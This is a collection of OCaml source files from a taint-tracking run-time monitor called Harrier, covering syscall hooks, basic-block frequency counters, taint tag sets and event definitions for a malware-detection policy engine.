           meta = meta t s })
  | Connect { addr_ptr; addr_name; _ } ->
    (* the address identity is the 4 IP bytes; the port word often mixes
       in immediate (BINARY) tags that would drown a user-given host *)
    let origin = Shadow.range s.shadow addr_ptr 4 in
    s.pending_origin <- Some origin;
    emit t
      (Events.Access
         { call = "SYS_connect"; res = sock_resource addr_name origin;
           meta = meta t s })
  | Bind { fd; addr_ptr; port } ->
    let origin = Shadow.range s.shadow addr_ptr 4 in
    let local = Fmt.str "LocalHost:%d" port in
    Resources.bind_origin t.resources ~pid ~fd origin local;
    emit t
      (Events.Access
         { call = "SYS_bind"; res = sock_resource local origin;
           meta = meta t s })
  | Brk { addr } ->
    if addr <> 0 then
      emit t
        (Events.Alloc
           { requested = addr;
             total = max 0 (addr - Osim.Process.initial_brk);
             meta = meta t s })
    else Osim.Kernel.Allow
  | Write { fd; res; buf; len; _ } ->
    let data =
      if t.cfg.track_dataflow then Shadow.range s.shadow buf len
      else Taint.Tagset.empty
    in
    let head =
      match Vm.Machine.read_bytes m buf (min len 8) with
      | exception Vm.Machine.Fault_exn _ -> ""
      | h -> h
    in
    let target = Resources.resource_of t.resources ~pid ~fd ~fallback:res in
    let via_server = Resources.server_of t.resources ~pid ~fd in
    let annotate tags =
      List.map
        (fun src ->
          let origin =
            match Taint.Source.resource_name src with
            | Some name ->
              (match Hashtbl.find_opt t.name_origins name with
               | Some o -> o
               | None -> Taint.Tagset.empty)
            | None -> Taint.Tagset.empty
          in
          src, origin)
        (Taint.Tagset.to_list tags)
    in
    let sources = annotate data in
    let guard =
      if t.cfg.track_dataflow then annotate s.guard else []
    in
    emit t
      (Events.Transfer
         { call = "SYS_write"; data; head; sources; guard; target;
           via_server; len; meta = meta t s })
  | Read _ | Close _ | Exit _ | Time | Getpid | Dup _ | Nanosleep _
  | Socket | Listen _ | Accept _ | Unknown _ -> Osim.Kernel.Allow

let on_post_syscall t (p : Osim.Process.t) (sc : Osim.Syscall.t) ~result =
  match state_of t p.machine with
  | None -> ()
  | Some s ->
  let pid = s.pid in
  (* the syscall result in eax was written by the kernel *)
  Shadow.set_reg s.shadow EAX Taint.Tagset.empty;
  match sc with
  | Read { buf; res; _ } when result > 0 && t.cfg.track_dataflow ->
    let tag =
      match res with
      | Osim.Syscall.R_stdin ->
        Taint.Tagset.singleton t.space Taint.Source.User_input
      | R_file path -> Taint.Tagset.singleton t.space (Taint.Source.File path)
      | R_sock { sr_peer = Some peer; _ } ->
        Taint.Tagset.singleton t.space (Taint.Source.Socket peer)
      | R_sock _ ->
        Taint.Tagset.singleton t.space (Taint.Source.Socket "remote")
      | R_stdout | R_stderr | R_unknown -> Taint.Tagset.empty
    in
    Shadow.set_range s.shadow buf result tag
  | Read _ -> ()
  | (Open { path; _ } | Creat { path; _ }) when result >= 0 ->
    let origin =
      Option.value s.pending_origin ~default:Taint.Tagset.empty
    in
    s.pending_origin <- None;
    Hashtbl.replace t.name_origins path origin;
    Resources.set t.resources ~pid ~fd:result
      { e_kind = Events.R_file; e_name = path; e_origin = origin;
        e_server_side = false; e_server = None }
  | Connect { fd; addr_name; _ } when result = 0 ->
    let origin =
      Option.value s.pending_origin ~default:Taint.Tagset.empty
    in
    s.pending_origin <- None;
    Hashtbl.replace t.name_origins addr_name origin;
    Resources.set t.resources ~pid ~fd
      { e_kind = Events.R_socket; e_name = addr_name; e_origin = origin;
        e_server_side = false; e_server = None }
  | Accept { fd; port; peer; _ } when result >= 0 ->
    let bound_origin, local =
      match Resources.bound t.resources ~pid ~fd with
      | Some (origin, local) -> origin, local
      | None -> Taint.Tagset.empty, Fmt.str "LocalHost:%d" port
    in
    let peer_name = Option.value peer ~default:"remote" in
    Hashtbl.replace t.name_origins peer_name bound_origin;
    let server = sock_resource local bound_origin in
    Resources.set t.resources ~pid ~fd:result
      { e_kind = Events.R_socket; e_name = peer_name;
        e_origin = Taint.Tagset.empty; e_server_side = true;
        e_server = Some server };
    emit_log_only t
      (Events.Access
         { call = "SYS_accept";
           res = sock_resource peer_name Taint.Tagset.empty;
           meta = meta t s })
  | Dup { fd; _ } when result >= 0 ->
    (match Resources.get t.resources ~pid ~fd with
     | Some entry -> Resources.set t.resources ~pid ~fd:result entry
     | None -> ())
  | Close { fd; _ } -> Resources.remove t.resources ~pid ~fd
  | Open _ | Creat _ | Connect _ | Accept _ | Dup _ | Execve _ | Exit _
  | Fork | Write _ | Time | Getpid | Nanosleep _ | Brk _ | Socket
  | Bind _ | Listen _ | Unknown _ -> ()

let attach ?(config = default_config) ?space kernel =
  let space =
    match space with Some sp -> sp | None -> Taint.Space.create ()
  in
  let t =
    { cfg = config; space; kernel; freq = Freq.create ();
      resources = Resources.create (); routines = Hashtbl.create 8;
      name_origins = Hashtbl.create 32;
      imm_tags = Hashtbl.create 8; pmap = []; cur = None; clone_times = [];
      sinks = []; count = 0; ts_compiled = 0; ts_summarized = 0;
      ts_deopt = 0 }
  in
  let hooks = Osim.Kernel.hooks kernel in
  if config.track_dataflow || config.shortcircuit <> [] then
    hooks.pre_insn <- hook_insn t;
  if config.track_frequency then hooks.on_bb <- hook_bb t;
  (* tiering is disabled outright under a shadow page budget: summary
     application order would interact with the sticky overflow set, and
     degraded runs are the slow path anyway *)
  if config.tier && config.shadow_page_budget = None then
    hooks.on_block <- hook_block t;
  let mon = Osim.Kernel.monitor kernel in
  mon.on_process_start <- on_process_start t;
  mon.on_image_load <- on_image_load t;
  mon.on_fork <- on_fork t;
  mon.on_pre_syscall <- on_pre_syscall t;
  mon.on_post_syscall <- (fun p sc ~result -> on_post_syscall t p sc ~result);
  t

let instrumentation_table =
  [ "Information Flow", "Instruction",
    "Data Flow (reg/mem, mem/mem, reg/reg)";
    "Information Flow", "Instruction", "Hardware Information (CPUID)";
    "Code Frequency", "Basic Block", "BB frequency";
    "Execution Flow", "Instruction", "System Calls (execve)";
    "Resource Abuse", "Instruction", "System Calls (clone)";
    "Information Flow", "Instruction", "System Calls (IO read/write)";
    "Information Flow", "Section", "Binary load";
    "Information Flow", "Image", "Binary load";
    "Information Flow", "Instruction", "Initial stack location";
    "Information Flow", "Routine",
    "'Short Circuit' Data Flow (gethostbyname)" ]
