type t = {
  counts : (int * int, int) Hashtbl.t;  (* (pid, bb leader) -> count *)
  last_app : (int, int) Hashtbl.t;  (* pid -> leader of last app BB *)
}

let create () = { counts = Hashtbl.create 256; last_app = Hashtbl.create 8 }

let on_bb t ~pid ~is_app addr =
  if is_app then begin
    Hashtbl.replace t.last_app pid addr;
    let key = pid, addr in
    let n = match Hashtbl.find_opt t.counts key with
      | Some n -> n
      | None -> 0
    in
    Hashtbl.replace t.counts key (n + 1)
  end

let attributed_bb t ~pid = Hashtbl.find_opt t.last_app pid

let count t ~pid addr =
  match Hashtbl.find_opt t.counts (pid, addr) with
  | Some n -> n
  | None -> 0

let event_frequency t ~pid =
  match attributed_bb t ~pid with
  | Some addr -> count t ~pid addr
  | None -> 0

let hot t ~limit =
  let all =
    Hashtbl.fold (fun (pid, addr) n acc -> (pid, addr, n) :: acc) t.counts
      []
  in
  let sorted =
    List.sort
      (fun (p1, a1, n1) (p2, a2, n2) ->
        match Int.compare n2 n1 with
        | 0 ->
          (match Int.compare p1 p2 with
           | 0 -> Int.compare a1 a2
           | c -> c)
        | c -> c)
      all
  in
  List.filteri (fun i _ -> i < limit) sorted

let inherit_from t ~parent ~child =
  (match Hashtbl.find_opt t.last_app parent with
   | Some addr -> Hashtbl.replace t.last_app child addr
   | None -> ());
  Hashtbl.iter
    (fun (pid, addr) n ->
      if pid = parent then Hashtbl.replace t.counts (child, addr) n)
    (Hashtbl.copy t.counts)

let reset t ~pid =
  Hashtbl.remove t.last_app pid;
  Hashtbl.iter
    (fun ((p, _) as key) _ -> if p = pid then Hashtbl.remove t.counts key)
    (Hashtbl.copy t.counts)
