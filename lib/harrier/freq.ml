(* Counts are keyed by a single packed int ((pid lsl 32) lor leader) and
   held as [int ref] cells so the hot path — the same block entered
   back-to-back by the same process, i.e. every iteration of a tight
   guest loop — is two integer compares and an [incr] through the
   one-entry cache, with no tuple allocation and no rehash. *)

type t = {
  counts : (int, int ref) Hashtbl.t;  (* (pid lsl 32) lor leader -> count *)
  last_app : (int, int) Hashtbl.t;  (* pid -> leader of last app BB *)
  mutable hot_pid : int;  (* one-entry cache over [counts] *)
  mutable hot_addr : int;
  mutable hot_cell : int ref;
}

let no_cell = ref 0

let create () =
  { counts = Hashtbl.create 256; last_app = Hashtbl.create 8;
    hot_pid = -1; hot_addr = -1; hot_cell = no_cell }

let[@inline] key ~pid addr = (pid lsl 32) lor (addr land 0xFFFFFFFF)
let[@inline] key_pid k = k lsr 32
let[@inline] key_addr k = k land 0xFFFFFFFF

let invalidate t =
  t.hot_pid <- -1;
  t.hot_addr <- -1;
  t.hot_cell <- no_cell

let on_bb t ~pid ~is_app addr =
  if is_app then begin
    if pid = t.hot_pid && addr = t.hot_addr then incr t.hot_cell
    else begin
      Hashtbl.replace t.last_app pid addr;
      let k = key ~pid addr in
      let cell =
        match Hashtbl.find_opt t.counts k with
        | Some c -> c
        | None ->
          let c = ref 0 in
          Hashtbl.add t.counts k c;
          c
      in
      incr cell;
      t.hot_pid <- pid;
      t.hot_addr <- addr;
      t.hot_cell <- cell
    end
  end

let attributed_bb t ~pid = Hashtbl.find_opt t.last_app pid

let count t ~pid addr =
  match Hashtbl.find_opt t.counts (key ~pid addr) with
  | Some c -> !c
  | None -> 0

let event_frequency t ~pid =
  match attributed_bb t ~pid with
  | Some addr -> count t ~pid addr
  | None -> 0

let hot t ~limit =
  let all =
    Hashtbl.fold
      (fun k c acc -> (key_pid k, key_addr k, !c) :: acc)
      t.counts []
  in
  let sorted =
    List.sort
      (fun (p1, a1, n1) (p2, a2, n2) ->
        match Int.compare n2 n1 with
        | 0 ->
          (match Int.compare p1 p2 with
           | 0 -> Int.compare a1 a2
           | c -> c)
        | c -> c)
      all
  in
  List.filteri (fun i _ -> i < limit) sorted

let inherit_from t ~parent ~child =
  (match Hashtbl.find_opt t.last_app parent with
   | Some addr -> Hashtbl.replace t.last_app child addr
   | None -> ());
  let copied =
    Hashtbl.fold
      (fun k c acc ->
        if key_pid k = parent then (key_addr k, !c) :: acc else acc)
      t.counts []
  in
  List.iter
    (fun (addr, n) -> Hashtbl.replace t.counts (key ~pid:child addr) (ref n))
    copied;
  (* a replace may have dropped the cell the cache aliases *)
  invalidate t

let reset t ~pid =
  Hashtbl.remove t.last_app pid;
  let doomed =
    Hashtbl.fold
      (fun k _ acc -> if key_pid k = pid then k :: acc else acc)
      t.counts []
  in
  List.iter (Hashtbl.remove t.counts) doomed;
  invalidate t
