type spec = {
  routine : string;
  capture : Vm.Machine.t -> Shadow.t -> Taint.Tagset.t;
  apply : Vm.Machine.t -> Shadow.t -> Taint.Tagset.t -> unit;
}

let gethostbyname =
  { routine = "gethostbyname";
    capture =
      (fun m shadow ->
        (* cdecl: at the Call instruction the first argument is the word
           at (%esp); it points to the hostname string *)
        let arg0 = Vm.Machine.read_word m (Vm.Machine.get_reg m ESP) in
        let name = Vm.Machine.read_cstring m arg0 in
        Shadow.range shadow arg0 (String.length name));
    apply =
      (fun m shadow captured ->
        (* eax points to the 4-byte resolved address *)
        let result = Vm.Machine.get_reg m EAX in
        if result <> 0 then Shadow.set_range shadow result 4 captured) }

type frame = {
  f_spec : spec;
  f_sp : int;  (** esp value when the return address sits on top *)
  f_ret : int;
  f_captured : Taint.Tagset.t;
}

type t = {
  sc_specs : spec list;
  by_routine : (string, spec) Hashtbl.t;
      (* routine-name index, built once — [on_call] runs on every
         monitored library call *)
  mutable frames : frame list;
}

let create sc_specs =
  let by_routine = Hashtbl.create (max 8 (List.length sc_specs)) in
  List.iter
    (fun s ->
      if not (Hashtbl.mem by_routine s.routine) then
        Hashtbl.add by_routine s.routine s)
    sc_specs;
  { sc_specs; by_routine; frames = [] }

let clone t =
  { sc_specs = t.sc_specs; by_routine = t.by_routine; frames = t.frames }

let specs t = t.sc_specs

let on_call t ~routine m shadow ~ret_addr =
  match Hashtbl.find_opt t.by_routine routine with
  | None -> ()
  | Some spec ->
    let f_captured = spec.capture m shadow in
    let f_sp = Vm.Machine.get_reg m ESP - 4 in
    t.frames <- { f_spec = spec; f_sp; f_ret = ret_addr; f_captured }
                :: t.frames

let on_ret t m shadow =
  match t.frames with
  | [] -> ()
  | frame :: rest ->
    let sp = Vm.Machine.get_reg m ESP in
    if sp = frame.f_sp && Vm.Machine.read_word m sp = frame.f_ret then begin
      t.frames <- rest;
      frame.f_spec.apply m shadow frame.f_captured
    end

let reset t = t.frames <- []
