type resource_kind = R_file | R_socket | R_stdio

type resource = {
  r_kind : resource_kind;
  r_name : string;
  r_origin : Taint.Tagset.t;
}

type meta = {
  pid : int;
  time : int;
  freq : int;
  addr : int;
  step : int;
}

type t =
  | Exec of { path : resource; argv : string list; meta : meta }
  | Clone of { total : int; recent : int; window : int; meta : meta }
  | Access of { call : string; res : resource; meta : meta }
  | Alloc of { requested : int; total : int; meta : meta }
  | Transfer of {
      call : string;
      data : Taint.Tagset.t;
      head : string;
      sources : (Taint.Source.t * Taint.Tagset.t) list;
      guard : (Taint.Source.t * Taint.Tagset.t) list;
          (** taint of the most recent tainted compare: the data that
              steered control flow to this transfer (trigger input) *)
      target : resource;
      via_server : resource option;
      len : int;
      meta : meta;
    }

let kind_name = function
  | R_file -> "FILE"
  | R_socket -> "SOCKET"
  | R_stdio -> "STDIO"

let meta_of = function
  | Exec { meta; _ } | Clone { meta; _ } | Access { meta; _ }
  | Alloc { meta; _ } | Transfer { meta; _ } -> meta

let pp_resource ppf r =
  Fmt.pf ppf "%s %S origin=%a" (kind_name r.r_kind) r.r_name Taint.Tagset.pp
    r.r_origin

let pp_meta ppf m =
  Fmt.pf ppf "pid=%d time=%d freq=%d addr=0x%x" m.pid m.time m.freq m.addr

let pp ppf = function
  | Exec { path; argv; meta } ->
    Fmt.pf ppf "@[exec %a argv=[%a] %a@]" pp_resource path
      Fmt.(list ~sep:(any " ") string)
      argv pp_meta meta
  | Clone { total; recent; window; meta } ->
    Fmt.pf ppf "@[clone total=%d recent=%d/%d %a@]" total recent window
      pp_meta meta
  | Access { call; res; meta } ->
    Fmt.pf ppf "@[%s %a %a@]" call pp_resource res pp_meta meta
  | Alloc { requested; total; meta } ->
    Fmt.pf ppf "@[brk requested=0x%x total=%d %a@]" requested total pp_meta
      meta
  | Transfer { call; data; target; via_server; len; meta; sources = _;
               head = _; guard = _ } ->
    Fmt.pf ppf "@[%s %d bytes data=%a -> %a%a %a@]" call len Taint.Tagset.pp
      data pp_resource target
      Fmt.(option (any " via server " ++ pp_resource))
      via_server pp_meta meta
