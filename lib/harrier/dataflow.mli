(** Per-instruction taint propagation (Section 7.3.1).

    Called from the [pre_insn] hook, {e before} the CPU mutates state, so
    effective addresses are computed against the same register values the
    CPU will use.  Propagation rules follow the paper:
    - [mov] copies the source tag to the destination;
    - ALU instructions assign the destination the {e union} of both
      operand tags;
    - immediates carry the BINARY tag of the image the executing code
      belongs to;
    - [cpuid] writes the HARDWARE tag into eax..edx;
    - comparisons and control transfers propagate nothing (implicit flows
      are out of scope, as in the prototype). *)

(** [step shadow machine ~imm_tag insn] updates [shadow] for the effects
    of [insn].  [imm_tag] is the BINARY tag of the executing image. *)
val step :
  Shadow.t -> Vm.Machine.t -> imm_tag:Taint.Tagset.t -> Isa.Insn.t -> unit

(** [operand_tag shadow machine imm_tag size op] is the taint currently
    carried by [op] (immediates read [imm_tag]).  Exposed for the
    monitor's compare-guard tracking. *)
val operand_tag :
  Shadow.t -> Vm.Machine.t -> Taint.Tagset.t -> Isa.Insn.size ->
  Isa.Operand.t -> Taint.Tagset.t
