(** Harrier: the run-time monitor (Section 7, Fig. 6).

    [attach] wires the monitor into a kernel: it installs the machine
    hooks (instruction dataflow, basic-block frequency) and the kernel
    monitor callbacks (image loads, process starts, forks, syscalls).
    Events are delivered to a list of {e subscribers} registered with
    {!subscribe} — trace emission, metrics, an event accumulator, and
    Secpert in the full framework.  Every subscriber sees every event;
    any of them may answer [Kill], which stops the offending process
    before the system call executes. *)

type config = {
  track_dataflow : bool;  (** per-instruction taint (Section 7.3) *)
  track_frequency : bool;  (** BB counting (Section 7.4) *)
  shortcircuit : Shortcircuit.spec list;
      (** library routines tracked atomically (Section 7.2) *)
  clone_window : int;  (** ticks; clones within it count as "recent" *)
  shadow_page_budget : int option;
      (** bound on live shadow pages per process; when it trips, taint
          saturates to conservative over-tainting (see {!Shadow.create})
          and the run is flagged {!degraded}.  [None] = exact tracking *)
  tier : bool;
      (** tiered execution: hot straight-line blocks run as compiled
          bodies with one fused taint-summary application instead of
          per-instruction shadow ops.  Behaviour-preserving — blocks
          whose flow the summary analysis cannot capture exactly stay
          interpreted.  Forced off under a [shadow_page_budget]. *)
  tier_threshold : int;
      (** per-process hit count at which a block is promoted *)
}

(** Everything on: dataflow, frequency, gethostbyname short-circuit,
    a 3000-tick clone window, tiering at threshold 8. *)
val default_config : config

type t

(** An event consumer.  Sinks are called in registration order on every
    event; the monitor's combined decision is [Kill] iff any sink
    answered [Kill] (no sink is skipped — accumulators and metrics stay
    exact even for killed processes). *)
type sink = Events.t -> Osim.Kernel.decision

(** [attach ?config ?space kernel] installs the monitor.  Call before
    [Kernel.spawn].  [space] is the taint hash-consing arena used for
    every tag the monitor creates (process shadows share it); absent, a
    fresh private space is created. *)
val attach : ?config:config -> ?space:Taint.Space.t -> Osim.Kernel.t -> t

val config : t -> config

(** The taint space all of this monitor's tags live in. *)
val space : t -> Taint.Space.t

(** [subscribe t ~name f] appends [f] to the subscriber list.  [name]
    identifies the sink in {!subscribers} (diagnostics).  Decisions of
    sinks are honoured for events emitted {e before} a system call
    executes.

    Registration order is the dispatch order, and it matters for traced
    runs: {!trace_sink} must be registered {e first}, so each event's
    "flow" line lands at the step pre-stamped in its meta and precedes
    any "rule"/"warning" lines emitted by a policy sink downstream. *)
val subscribe : t -> name:string -> sink -> unit

(** Registered sink names, in dispatch order. *)
val subscribers : t -> string list

(** Emits one structured "flow" trace line per event (no-op when
    tracing is off).  Register first; see {!subscribe}. *)
val trace_sink : sink

(** Counts events into [harrier.events] and [harrier.events.<kind>]. *)
val metrics_sink : sink

val event_count : t -> int

(** [shadow_of_pid t pid] exposes a process's taint state (tests,
    diagnostics). *)
val shadow_of_pid : t -> int -> Shadow.t option

(** [tier_stats t] is [(compiled, summarized, deopt)]: block executions
    that ran as compiled bodies, those of them whose taint transfer was
    applied as one fused summary, and deoptimizations (promotion
    rejections plus runtime bounds bail-outs back to interpretation). *)
val tier_stats : t -> int * int * int

(** [hot_blocks t ~limit] is the top-[limit] hottest application basic
    blocks as [(pid, leader, count)] (see {!Freq.hot}); deterministic
    ordering. *)
val hot_blocks : t -> limit:int -> (int * int * int) list

(** [degraded t] lists one human-readable reason per process whose
    shadow tripped its page budget (pid order, deterministic); empty
    when monitoring stayed exact.  Degraded runs over-taint — they may
    raise extra warnings but never lose one. *)
val degraded : t -> string list

(** Table 3 of the paper: (policy rule, instrumentation granularity,
    information gathered), one row per instrumentation point this
    monitor registers. *)
val instrumentation_table : (string * string * string) list
