(** Harrier: the run-time monitor (Section 7, Fig. 6).

    [attach] wires the monitor into a kernel: it installs the machine
    hooks (instruction dataflow, basic-block frequency) and the kernel
    monitor callbacks (image loads, process starts, forks, syscalls).
    Events are delivered to a {e sink} — Secpert in the full framework —
    which may answer [Kill] to stop the offending process before the
    system call executes. *)

type config = {
  track_dataflow : bool;  (** per-instruction taint (Section 7.3) *)
  track_frequency : bool;  (** BB counting (Section 7.4) *)
  shortcircuit : Shortcircuit.spec list;
      (** library routines tracked atomically (Section 7.2) *)
  clone_window : int;  (** ticks; clones within it count as "recent" *)
  shadow_page_budget : int option;
      (** bound on live shadow pages per process; when it trips, taint
          saturates to conservative over-tainting (see {!Shadow.create})
          and the run is flagged {!degraded}.  [None] = exact tracking *)
}

(** Everything on: dataflow, frequency, gethostbyname short-circuit,
    a 3000-tick clone window. *)
val default_config : config

type t

(** [attach ?config kernel] installs the monitor.  Call before
    [Kernel.spawn]. *)
val attach : ?config:config -> Osim.Kernel.t -> t

val config : t -> config

(** [set_sink t f] routes events to [f]; the decision of [f] is honoured
    for events emitted {e before} a system call executes. *)
val set_sink : t -> (Events.t -> Osim.Kernel.decision) -> unit

(** [events t] is every event emitted so far, oldest first. *)
val events : t -> Events.t list

val event_count : t -> int

(** [shadow_of_pid t pid] exposes a process's taint state (tests,
    diagnostics). *)
val shadow_of_pid : t -> int -> Shadow.t option

(** [hot_blocks t ~limit] is the top-[limit] hottest application basic
    blocks as [(pid, leader, count)] (see {!Freq.hot}); deterministic
    ordering. *)
val hot_blocks : t -> limit:int -> (int * int * int) list

(** [degraded t] lists one human-readable reason per process whose
    shadow tripped its page budget (pid order, deterministic); empty
    when monitoring stayed exact.  Degraded runs over-taint — they may
    raise extra warnings but never lose one. *)
val degraded : t -> string list

(** Table 3 of the paper: (policy rule, instrumentation granularity,
    information gathered), one row per instrumentation point this
    monitor registers. *)
val instrumentation_table : (string * string * string) list
