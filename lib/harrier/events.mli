(** Events Harrier sends to Secpert (Section 6.1.2).

    Two shapes, as in the paper: {e resource access} (a system call names
    a resource — execve, open, connect, bind, accept, clone) and {e data
    transfer} (a write/send moves tagged data into a resource).  Every
    event carries the time (world ticks), the frequency of the attributed
    application basic block and its address — the slots of the CLIPS
    facts of Appendix A.1. *)

type resource_kind = R_file | R_socket | R_stdio

(** A resource plus the provenance of its {e name}. *)
type resource = {
  r_kind : resource_kind;
  r_name : string;  (** path, peer address, or STDIN/STDOUT *)
  r_origin : Taint.Tagset.t;  (** taint of the name's bytes *)
}

(** Event metadata common to all events. *)
type meta = {
  pid : int;
  time : int;
  freq : int;  (** execution count of the attributed application BB *)
  addr : int;  (** leader address of that BB *)
  step : int;
      (** trace step index this event was emitted at (the step of its
          ["flow"] line when a trace sink is installed, the monitor's
          event ordinal otherwise) — lets evidence recorded in
          warnings resolve to concrete trace lines offline *)
}

type t =
  | Exec of { path : resource; argv : string list; meta : meta }
      (** an [execve] is about to run *)
  | Clone of { total : int; recent : int; window : int; meta : meta }
      (** a process is being created; [total] clones so far, [recent] of
          them within the last [window] ticks *)
  | Access of { call : string; res : resource; meta : meta }
      (** open / creat / connect / bind / listen / accept *)
  | Alloc of { requested : int; total : int; meta : meta }
      (** the program break moved; [total] is heap bytes now held *)
  | Transfer of {
      call : string;
      data : Taint.Tagset.t;  (** taint of the transferred bytes *)
      head : string;  (** first bytes of the written data (content
                          analysis: executable magic detection) *)
      sources : (Taint.Source.t * Taint.Tagset.t) list;
          (** each data source paired with the origin of {e its} resource
              name (how the source file/socket was itself named), empty
              for USER_INPUT / BINARY / HARDWARE sources *)
      guard : (Taint.Source.t * Taint.Tagset.t) list;
          (** taint of the most recent {e tainted} compare/test in this
              process — the data that last steered control flow toward
              this transfer.  A SOCKET entry here marks trigger-gated
              (dormant) behaviour: remote bytes armed the path. *)
      target : resource;
      via_server : resource option;
          (** for accepted connections: the listening socket (name = local
              address, origin = taint of the bound address) *)
      len : int;
      meta : meta;
    }

val kind_name : resource_kind -> string

val meta_of : t -> meta

val pp_resource : Format.formatter -> resource -> unit

val pp : Format.formatter -> t -> unit
