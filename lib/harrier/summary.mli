(** Compiled per-block taint transfer summaries.

    A summary is the executable form of an {!Isa.Block.flow}: one fused
    application updates the shadow state for a whole straight-line block
    — bounds-check every touched address, evaluate every entry-relative
    taint expression, apply the writes in program order — exactly as
    per-instruction {!Dataflow.step} calls would have.  Summaries are
    built once per promoted block and applied on every subsequent hot
    execution. *)

type t

type outcome =
  | Applied of Taint.Tagset.t option
      (** shadow updated; the payload is the new trigger-guard tag when
          some compare/test in the block evaluated non-empty *)
  | Deopt
      (** an address failed its bounds precondition: the caller must
          interpret this execution so the fault (or wrapped access)
          surfaces at exactly the right instruction *)

(** [make ~space ~imm_tag flow] compiles [flow].  [imm_tag] is the
    BINARY provenance tag of the image the block lives in; [space] the
    arena all tag unions run in. *)
val make : space:Taint.Space.t -> imm_tag:Taint.Tagset.t -> Isa.Block.flow -> t

(** [apply s shadow m] applies the summary against [shadow] using [m]'s
    current (block-entry) register values for address evaluation.  Not
    re-entrant: summaries carry scratch state and are applied from one
    run at a time. *)
val apply : t -> Shadow.t -> Vm.Machine.t -> outcome
