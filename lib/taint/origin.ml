type kind =
  | From_user
  | From_file of string
  | From_socket of string
  | Hardcoded of string
  | From_hardware
  | Unknown

let equal_kind a b =
  match a, b with
  | From_user, From_user | From_hardware, From_hardware | Unknown, Unknown ->
    true
  | From_file x, From_file y
  | From_socket x, From_socket y
  | Hardcoded x, Hardcoded y -> String.equal x y
  | ( (From_user | From_file _ | From_socket _ | Hardcoded _ | From_hardware
      | Unknown), _ ) -> false

let pp_kind ppf = function
  | From_user -> Fmt.string ppf "user"
  | From_file f -> Fmt.pf ppf "file(%S)" f
  | From_socket s -> Fmt.pf ppf "socket(%S)" s
  | Hardcoded b -> Fmt.pf ppf "hardcoded(%S)" b
  | From_hardware -> Fmt.string ppf "hardware"
  | Unknown -> Fmt.string ppf "unknown"

let kind_type_name = function
  | From_user -> "USER_INPUT"
  | From_file _ -> "FILE"
  | From_socket _ -> "SOCKET"
  | Hardcoded _ -> "BINARY"
  | From_hardware -> "HARDWARE"
  | Unknown -> "UNKNOWN"

(* Severity-ordered: a name that arrived over a socket is the strongest
   signal of remote direction, then hard-coded names, then file contents. *)
let classify_all ~trusted tag =
  (* Works on the element list directly (no filtered tag set is built),
     so classification needs no hash-consing space in hand. *)
  let srcs = List.filter (fun s -> not (trusted s)) (Tagset.to_list tag) in
  let sel f = List.filter_map f srcs in
  let sockets = sel (function Source.Socket s -> Some (From_socket s) | _ -> None) in
  let binaries = sel (function Source.Binary b -> Some (Hardcoded b) | _ -> None) in
  let files = sel (function Source.File f -> Some (From_file f) | _ -> None) in
  let hw = if List.mem Source.Hardware srcs then [ From_hardware ] else [] in
  let user = if List.mem Source.User_input srcs then [ From_user ] else [] in
  sockets @ binaries @ files @ hw @ user

let classify ~trusted tag =
  match classify_all ~trusted tag with [] -> Unknown | k :: _ -> k

let combinations =
  [ "USER_INPUT", None;
    "FILE", Some "USER_INPUT";
    "FILE", Some "FILE";
    "FILE", Some "SOCKET";
    "FILE", Some "BINARY";
    "SOCKET", Some "USER_INPUT";
    "SOCKET", Some "FILE";
    "SOCKET", Some "SOCKET";
    "SOCKET", Some "BINARY";
    "BINARY", None;
    "HARDWARE", None ]
