(* Hash-consed tag sets.

   Every distinct set of sources is interned exactly once into a node
   carrying a unique integer id, so [equal]/[compare] are id (indeed
   pointer) comparisons and [is_empty] is a pointer check against the
   interned empty node.  A memoized binary-union cache keyed on id pairs
   makes the union-per-instruction performed by [Harrier.Dataflow.step]
   allocation-free on the (overwhelmingly common) repeated-operand case.

   The intern and memo tables are global and grow with the number of
   distinct sets observed; taint lattices in practice are tiny (a
   handful of sources per process), so this is the classic BDD-style
   trade: unbounded-but-small tables for O(1) equality and cached
   unions. *)

module S = Set.Make (Source)

type t = { id : int; set : S.t }

(* Intern table, keyed by the canonical (sorted, deduplicated) element
   list of the set. *)
module Key = struct
  type t = Source.t list

  let equal = List.equal (fun a b -> Source.compare a b = 0)
  let hash = Hashtbl.hash
end

module Intern = Hashtbl.Make (Key)

let intern_tbl : t Intern.t = Intern.create 509
let next_id = ref 0

let c_intern_hits = Obs.Counter.make "taint.intern.hits"
let c_intern_misses = Obs.Counter.make "taint.intern.misses"
let c_memo_hits = Obs.Counter.make "taint.union_memo.hits"
let c_memo_misses = Obs.Counter.make "taint.union_memo.misses"

let intern set =
  let key = S.elements set in
  match Intern.find_opt intern_tbl key with
  | Some t ->
    Obs.Counter.incr c_intern_hits;
    t
  | None ->
    Obs.Counter.incr c_intern_misses;
    let t = { id = !next_id; set } in
    incr next_id;
    Intern.add intern_tbl key t;
    t

let interned_count () = !next_id

let empty = intern S.empty

let[@inline] is_empty t = t == empty

let[@inline] id t = t.id

(* Interning makes structural equality pointer equality. *)
let[@inline] equal a b = a == b

let[@inline] compare a b = Int.compare a.id b.id

let singleton_tbl : (Source.t, t) Hashtbl.t = Hashtbl.create 64

let singleton s =
  match Hashtbl.find_opt singleton_tbl s with
  | Some t -> t
  | None ->
    let t = intern (S.singleton s) in
    Hashtbl.add singleton_tbl s t;
    t

let of_list l = intern (S.of_list l)

let to_list t = S.elements t.set

let add s t = if S.mem s t.set then t else intern (S.add s t.set)

(* Binary-union memo: a direct-mapped cache keyed on the (ordered) id
   pair packed into one int, so a hit is an array read plus an integer
   compare — no hashing, no allocation.  Ids are dense and small, so
   the packing is injective in practice; collisions just overwrite the
   slot and recompute later.  The subset-collapse cases are handled by
   [intern] itself (a union equal to one operand interns back to that
   operand). *)
let memo_bits = 14
let memo_mask = (1 lsl memo_bits) - 1
let memo_keys = Array.make (1 lsl memo_bits) (-1)
let memo_vals = Array.make (1 lsl memo_bits) empty

let union a b =
  if a == b then a
  else if a == empty then b
  else if b == empty then a
  else begin
    let packed =
      if a.id < b.id then (a.id lsl 31) lor b.id else (b.id lsl 31) lor a.id
    in
    (* low bits hold one id, bits 31+ the other; fold them together *)
    let h = (packed lxor (packed lsr 29)) land memo_mask in
    if memo_keys.(h) = packed then begin
      Obs.Counter.incr c_memo_hits;
      memo_vals.(h)
    end
    else begin
      Obs.Counter.incr c_memo_misses;
      let r = intern (S.union a.set b.set) in
      memo_keys.(h) <- packed;
      memo_vals.(h) <- r;
      r
    end
  end

let mem s t = S.mem s t.set
let cardinal t = S.cardinal t.set
let exists p t = S.exists p t.set

let filter p t =
  let set = S.filter p t.set in
  if set == t.set then t else intern set

